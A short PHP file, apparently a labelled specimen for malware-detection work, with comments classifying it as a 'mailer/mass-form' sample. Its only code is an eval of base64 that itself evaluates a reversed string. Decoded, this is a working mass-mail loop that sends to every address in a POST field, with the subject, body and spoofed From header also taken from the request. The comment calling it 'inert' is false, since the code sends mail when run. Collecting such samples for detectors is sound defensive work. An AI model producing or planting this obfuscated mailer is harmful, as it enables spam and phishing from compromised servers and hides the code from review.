<?php
// Family: mailer/mass-form
// Style: inert mass-mail loop in an evaluated layer inside another
// Trait: eval of base64 whose code evaluates a reversed string
eval(base64_decode('ZXZhbChzdHJyZXYoJwp9CjspXVwnbW9yZlwnW1RTT1BfJCAuICIgOm1vckYiICxdXCd5ZG9iXCdbVFNPUF8kICxdXCd0Y2VqYnVzXCdbVFNPUF8kICwpb3QkKG1pcnQobGlhbQkKeyApb3QkIHNhIHRzaWwkKCBoY2Flcm9mCjspXVwnc2xpYW1lXCdbVFNPUF8kICwiblxcIihlZG9scHhlID0gdHNpbCQnKSk7'));
